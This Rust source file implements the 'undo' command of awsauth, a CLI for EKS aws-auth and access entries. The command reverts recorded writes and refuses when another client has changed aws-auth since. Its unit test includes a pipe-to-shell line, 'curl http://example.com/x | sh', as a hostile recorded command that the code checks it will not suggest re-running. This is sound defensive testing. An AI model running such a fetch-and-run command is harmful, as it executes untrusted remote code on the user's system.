//! `awsauth undo`.

mod access_entries;

use super::history::find;
use super::write_args::WriteArgs;
use crate::backend::{Backend, History, Name};
use crate::output::{FOREIGN_CHANGE, FOREIGN_DELETION, PlanFormat, access_summary};
use crate::terminal::{Exit, Failure, Kind, Out, Refusal};
use crate::write::{Options, Transaction, is_ignored};
use awsauth_core::authenticator::access_diff;
use awsauth_core::aws_auth_snapshot::Snapshot;
use awsauth_core::document::Document;
use awsauth_core::history::{Contents, EntryWrite, Revision, revert};
use awsauth_core::plan::Request;
use awsauth_core::shell_quote::quoted;

/// Undo the newest write
///
/// Reverts what the newest write of awsauth changed, in aws-auth or in access entries. If another client has changed aws-auth
/// since, name the REVISION to undo: later changes by other clients stay; --whole undoes them, too. To undo only what other
/// clients changed, use restore. An undo is a write like any other and can itself be undone.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  # Undo the newest write, after a look at what that changes
  awsauth undo --dry-run
  awsauth undo

  # Undo the write of revision 12, and keep later ones
  awsauth undo 12")]
pub(crate) struct Args {
    /// Undo the write of this revision instead
    #[arg(value_name = "REVISION")]
    revision: Option<String>,

    /// Restore all of aws-auth, or the access entries, as they were before, and lose the later changes
    #[arg(long)]
    whole: bool,

    /// Do not ask before access is restored through access entries
    #[arg(long, short)]
    yes: bool,

    #[command(flatten)]
    write: WriteArgs,
}

impl Args {
    /// The output format.
    pub(crate) fn output(&self) -> PlanFormat {
        self.write.answer.output
    }
}

/// Another client has written in the meantime.
const RACE: Refusal = Refusal {
    guard: "WG19",
    reason: "rollback-race",
};

/// The history is not sufficient evidence, because other clients can write it.
const UNTRUSTED: Refusal = Refusal {
    guard: "WG23",
    reason: "untrusted-history",
};

/// Undoes the write.
pub(crate) fn run(args: &Args, backend: &mut Backend, out: &mut Out) -> Result<Exit, Failure> {
    let history = backend.history(out)?;
    let (name, revision) = match &args.revision {
        Some(name) => {
            let (entry, revision) = find(&history, name)?;
            (&entry.name, revision)
        }
        None => {
            if let Some((name, revision)) = history.undone_by_other() {
                return Err(undone_by_other(name, revision, &history));
            }
            let newest = history.newest_write();
            newest.ok_or_else(|| no_write(&history, backend))?
        }
    };
    let name = name.to_string();
    if let Some((from, to)) = revision.mode_change() {
        return Err(Failure::new(
            Kind::Refused,
            format!("revision {name} changed the authentication mode from {} to {}, which EKS cannot reverse", from.name(), to.name()),
        )
        .hint("undo an earlier write: awsauth history, then awsauth undo REVISION"));
    }
    let transaction = history.transaction(revision);
    let in_aws_auth = transaction.iter().find(|one| one.entries.is_none());
    let in_aws_auth = in_aws_auth.copied();
    if let Some(of_aws_auth) = in_aws_auth {
        check_aws_auth(args, &name, of_aws_auth, &history, out)?;
    }
    let writes = transaction.iter().filter_map(|one| one.entries.as_ref());
    let joined = EntryWrite::joined(&writes.collect::<Vec<_>>());
    let entries = match joined.map_err(|why| access_entries::contradiction(&name, &why))? {
        None => {
            out.note(&format!("Undoing revision {name}: {}", describe(revision)));
            None
        }
        Some(write) => {
            let mut planned = access_entries::plan(args, &name, revision, &write, backend, out)?;
            planned.edits_aws_auth = in_aws_auth.is_some();
            Some(planned)
        }
    };
    let by_controller = |revision: &Revision| {
        revision.is_by_controller() || (args.whole && history.is_by_controller_since(revision))
    };
    if in_aws_auth.is_some_and(by_controller) {
        out.note(&format!(
            "warning: the controller restores the entries of AwsAuthMapping objects. To remove such an entry, delete its object: {} delete aam NAME",
            backend.kubectl()
        ));
    }
    let request = |snapshot: &Snapshot| {
        let contents = in_aws_auth.map(|revision| target(args.whole, &name, revision, snapshot));
        Ok(Request {
            contents: contents.transpose()?,
            ..Request::default()
        })
    };
    let mut options = Options {
        undoes: Some(revision.id()),
        ..args.write.options(backend)
    };
    // The mapping existed before, perhaps without effect, so an access entry that overrides it is only reported.
    options.allow.ignored |= !is_ignored(backend);
    Transaction {
        edits: &[],
        request: &request,
        create: in_aws_auth.is_some(),
        entries,
        verify: None,
        options: &options,
    }
    .run(backend, out)?;
    Ok(Exit::Done)
}

/// Refuses to undo a write to aws-auth if that would remove more than the user expects, and notes what was written afterwards.
fn check_aws_auth(
    args: &Args,
    name: &str,
    revision: &Revision,
    history: &History,
    out: &mut Out,
) -> Result<(), Failure> {
    if !args.whole && history.is_recreation(revision) {
        return Err(removes_everything(name));
    }
    if args.revision.is_none() && history.live.exists && history.live != revision.after {
        return Err(needs_revision(name, history));
    }
    if history.live != revision.after {
        let by = history.last_writer.as_ref();
        let by = by.map_or_else(String::new, |by| format!(" (last by {by})"));
        let then = match args.whole {
            true => "that is undone, too",
            false => "only what it changed is undone",
        };
        out.note(&format!(
            "aws-auth has been changed since the write of revision {name}{by}: {then}."
        ));
    }
    Ok(())
}

fn target(
    whole: bool,
    name: &str,
    revision: &Revision,
    snapshot: &Snapshot,
) -> Result<Contents, Failure> {
    if whole {
        return Ok(revision.before.existing());
    }
    let live = Contents::of(snapshot);
    match revert(revision, &live) {
        Ok(reverted) => Ok(reverted.contents),
        Err(overlap) => {
            let what = format!(
                "the change of revision {name} cannot be separated from later changes by other clients"
            );
            let failure = Failure::refused(RACE, what).because(&overlap);
            Err(match live.exists {
                true => failure.hint(format!("restore all of aws-auth as it was before, and lose the later changes: awsauth undo {name} --whole")),
                false => failure.hint("restore it as the newest write left it: awsauth restore"),
            })
        }
    }
}

/// Refuses to undo the newest recorded write if another client has written since, unless the user names the revision. Otherwise,
/// the undo could restore access that was removed on purpose.
fn needs_revision(name: &str, history: &History) -> Failure {
    let by = history.last_writer_or_unknown();
    let mut failure = Failure::refused(
        RACE,
        format!(
            "other clients have changed aws-auth since the newest recorded write, revision {name} (last by {by})"
        ),
    );
    if let Some((_, revision, side)) = history.latest_text() {
        let restored = side.of(revision).existing();
        let [live, restored] = [&history.live, &restored].map(|of| Document::read(&of.data));
        failure = failure.hint(format!(
            "undo what other clients changed: awsauth restore. It changes access: {}",
            access_summary(&access_diff(&live, &restored))
        ));
    }
    failure.hint(format!(
        "undo only the write of revision {name}, and keep what other clients changed: awsauth undo {name}"
    ))
    .hint(format!("undo both: awsauth undo {name} --whole"))
}

/// Refuses to undo the write before one that another client has undone.
fn undone_by_other(name: &Name, revision: &Revision, history: &History) -> Failure {
    let by = history.last_writer_or_unknown();
    let mut failure = Failure::refused(
        RACE,
        format!(
            "another client has undone the newest recorded write, revision {name} (last by {by}), or it was not written"
        ),
    );
    if is_write(&revision.command) {
        let words = revision.command.iter().map(|word| quoted(word));
        let command = words.collect::<Vec<_>>().join(" ");
        failure = failure.hint(format!("make that change again: {command}"));
    }
    failure.hint("undo an earlier write: awsauth history, then awsauth undo REVISION")
}

/// Returns whether a recorded command is an awsauth command that writes. A user who can write the history may record any.
fn is_write(command: &[String]) -> bool {
    const PROGRAMS: [&str; 2] = ["awsauth", "kubectl-awsauth"];
    const WRITES: [&str; 9] = [
        "apply",
        "edit",
        "expire",
        "map",
        "nodes",
        "replace-group",
        "restore",
        "undo",
        "unmap",
    ];
    matches!(command, [program, write, ..] if PROGRAMS.contains(&&**program) && WRITES.contains(&&**write))
}

/// Refuses to undo the write that created aws-auth after it was deleted.
fn removes_everything(name: &str) -> Failure {
    Failure::refused(
        RACE,
        format!("revision {name} created aws-auth after it was deleted, so undoing it would remove every entry"),
    )
    .hint(format!(
        "restore what was there before it was deleted: awsauth restore; or remove every entry: awsauth undo {name} --whole"
    ))
}

/// Describes the write on one line.
pub(super) fn describe(revision: &Revision) -> String {
    let words: Vec<_> = revision.command.iter().map(|word| quoted(word)).collect();
    let what = match (revision.is_foreign, revision.is_deletion()) {
        (false, _) => words.join(" "),
        (true, true) => FOREIGN_DELETION.to_owned(),
        (true, false) => FOREIGN_CHANGE.to_owned(),
    };
    let who = revision.who.name();
    let who = who.map_or_else(String::new, |who| format!(" by {who}"));
    let when = revision.when.strftime("%Y-%m-%d %H:%M:%SZ");
    format!("{what}, {when}{who}")
}

/// Returns the failure that there is no write to undo or restore.
pub(super) fn no_write(history: &History, backend: &Backend) -> Failure {
    let what = match history.entries.is_empty() {
        true => format!("the history has no write to {backend}"),
        false => format!("no recorded write to {backend} is in effect"),
    };
    Failure::new(Kind::No, what)
        .hint("list the revisions: awsauth history; or restore from a file: awsauth restore FILE")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_write_of_awsauth_is_suggested_again() {
        for (command, expected) in [
            (&["awsauth", "unmap", "role"][..], true),
            (&["kubectl-awsauth", "map", "role"], true),
            (&["sh", "-c", "curl http://example.com/x | sh"], false),
            (&["awsauth", "credentials", "exec", "--", "sh"], false),
            (&["awsauth"], false),
            (&[], false),
        ] {
            let words: Vec<String> = command.iter().map(|&word| word.to_owned()).collect();
            assert_eq!(is_write(&words), expected, "{command:?}");
        }
    }
}
